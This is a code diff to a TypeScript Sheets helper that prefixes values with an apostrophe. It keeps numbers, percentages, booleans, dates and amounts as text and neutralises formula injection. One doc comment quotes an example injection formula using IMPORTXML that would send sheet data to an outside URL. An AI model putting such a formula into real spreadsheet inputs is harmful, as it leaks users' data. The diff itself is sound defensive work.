@@ -77,11 +77,19 @@ export function isDate(v: unknown): v is Date {
 }
 
 const FORMULA_START = /^\s*[=+\-@]/;
+/** numbers, percentages, times and numeric dates: `199001152015032001`, `50%`, `1/2`, `2026-04-01`, `10:30` */
+const NUMERIC_LIKE = /^[\s\d.,:/+\-eE%]+$/;
+const BOOLEAN_LIKE = /^\s*(true|false)\s*$/i;
+/** `1 Jan 2026`, `1-Januari-26`, `Januari 1, 2026`; amounts such as `Rp 1.000` or `$5` */
+const DATE_WITH_MONTH =
+  /^\s*(\d{1,2}[\s\-/.]+[A-Za-z]{3,}\.?([\s\-/.,]+\d{2,4})?|[A-Za-z]{3,}\.?\s+\d{1,2},?(\s+\d{2,4})?)\s*$/;
+const AMOUNT = /^\s*(rp\.?|\$|€|£)\s*[\d.,]+\s*$/i;
 
 /**
  * Text that Sheets would parse on `setValues` is written with a leading apostrophe, which
  * keeps it text (the apostrophe is not part of the stored value):
- * - numbers and dates: an 18-digit NIP would become 1.99e17 and lose digits;
+ * - numbers, percentages, TRUE/FALSE, dates and amounts: an 18-digit NIP would become
+ *   1.99e17 and lose digits, an answer `50%` would become 0.5, `1/2` a date, `TRUE` a boolean;
  * - formulas: an answer such as `=IMPORTXML("https://…?"&A1,"//x")` would become a live
  *   formula (it could send the sheet's data elsewhere). Anything starting with `=`, `+`, `-`
  *   or `@`, after leading spaces, is treated so, as spreadsheet-injection guidance advises.
@@ -91,7 +99,9 @@ const FORMULA_START = /^\s*[=+\-@]/;
 export function keepText<T>(value: T): T | string {
   if (typeof value !== 'string' || value === '' || value.startsWith("'")) return value;
   if (FORMULA_START.test(value)) return `'${value}`;
-  return /^[\s\d.,:/+\-eE]+$/.test(value) && /\d/.test(value) ? `'${value}` : value;
+  if (NUMERIC_LIKE.test(value) && /\d/.test(value)) return `'${value}`;
+  if (BOOLEAN_LIKE.test(value) || AMOUNT.test(value)) return `'${value}`;
+  return DATE_WITH_MONTH.test(value) && /\d/.test(value) ? `'${value}` : value;
 }
 
 /**
